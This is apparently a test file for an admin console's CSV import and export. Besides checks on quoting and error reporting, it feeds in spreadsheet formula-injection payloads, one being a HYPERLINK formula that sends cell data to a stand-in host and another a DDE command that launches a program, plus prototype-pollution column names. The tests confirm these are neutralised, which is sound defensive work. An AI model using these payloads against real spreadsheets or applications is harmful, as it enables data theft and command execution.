// The console's CSV of items (oibus-admin/src/console/assets/csv.js), attacked with what
// spreadsheets write: quoted commas, quotes and line breaks, CRLF, numbers that are names.
// Run with `node --test` by tests/e2e/console.rs.

import test from 'node:test';
import assert from 'node:assert/strict';
import { parseCsv, itemsToCsv, csvToItems } from '../../oibus-admin/src/console/assets/csv.js';

const schema = {
  $defs: { Signal: { oneOf: [
    { properties: { type: { const: 'random', type: 'string' }, min: { type: 'number' }, max: { type: 'number' } } },
    { properties: { type: { const: 'sine', type: 'string' }, amplitude: { type: 'number' } } },
  ] } },
  properties: {
    node_id: { type: 'string' },
    topic: { type: ['string', 'null'] },
    enabled_in_source: { type: 'boolean' },
    signal: { $ref: '#/$defs/Signal' },
  },
};

test('quoted cells keep their commas, quotes and line breaks', () => {
  const rows = parseCsv('a,b,c\r\n"x, y","say ""hi""","two\nlines"\r\n');
  assert.deepEqual(rows, [['a', 'b', 'c'], ['x, y', 'say "hi"', 'two\nlines']]);
});

test('items go out and come back the same, typed by the item schema', () => {
  const items = [
    { name: 'a,b', enabled: true, scan_mode: 'fast', settings: { node_id: '0042', topic: 'plant/"x"', signal: { type: 'random', min: 0.5, max: 2 } } },
    { name: 'line\nbreak', enabled: false, scan_mode: 'slow', settings: { node_id: 'ns=2;s=X', enabled_in_source: true, signal: { type: 'sine', amplitude: 3 } } },
  ];
  const text = itemsToCsv(items);
  assert.ok(text.startsWith('name,enabled,scan_mode,settings.'));
  const back = csvToItems(text, schema);
  assert.deepEqual(back.problems, []);
  assert.deepEqual(back.items, items);
  assert.equal(typeof back.items[0].settings.node_id, 'string', 'a text setting that looks like a number stays text');
});

test('a bad file has each problem named by its line (the console then imports none of it)', () => {
  const { items, problems } = csvToItems('name,enabled\nok,true\n,true\nok,true\nx,maybe\n', schema);
  assert.deepEqual(problems, [
    'line 3: the name is empty',
    'line 4: the name ok is already on an earlier line',
    'line 5, column enabled: maybe is neither true nor false',
  ]);
  assert.equal(items.length, 2);
  assert.deepEqual(csvToItems('', schema).problems, ['the file is empty']);
  assert.deepEqual(csvToItems('id,enabled\nx,true\n', schema).problems, ['line 1: no "name" column']);
});

test('a text cell a spreadsheet would run as a formula goes out as text and comes back unchanged', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A3,"Details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1', '-2+3', '\tTAB', "'already marked",
  ];
  const items = attacks.map((name, n) => ({ name, enabled: true, scan_mode: n === 0 ? '=1+1' : 'fast', settings: { node_id: name, signal: { type: 'random', min: -1, max: 2 } } }));
  const text = itemsToCsv(items);
  for (const row of parseCsv(text).slice(1)) {
    for (const cell of row) {
      assert.ok(!/^[=+@\t\r]/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
      assert.ok(!/^-[^0-9]|^-\d+[^0-9.]/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
    }
  }
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A3,""Details"")"`), text);
  assert.ok(text.includes(',-1,'), 'a negative number stays a number');
  const back = csvToItems(text, schema);
  assert.deepEqual(back.problems, []);
  assert.deepEqual(back.items, items);
});

test('a column reaching the prototype is refused and pollutes nothing', () => {
  for (const column of ['settings.__proto__.polluted', 'settings.constructor.prototype.polluted', 'settings.__proto__.body']) {
    const { items, problems } = csvToItems(`name,${column}\nx,yes\n`, schema);
    assert.equal(items.length, 0, column);
    assert.equal(problems.length, 1, column);
    assert.match(problems[0], /^line 1, column settings\.[a-z_]+\..*is not a setting name/);
    assert.equal(({}).polluted, undefined, column);
    assert.equal(({}).body, undefined, column);
    assert.equal(Object.prototype.polluted, undefined, column);
  }
});
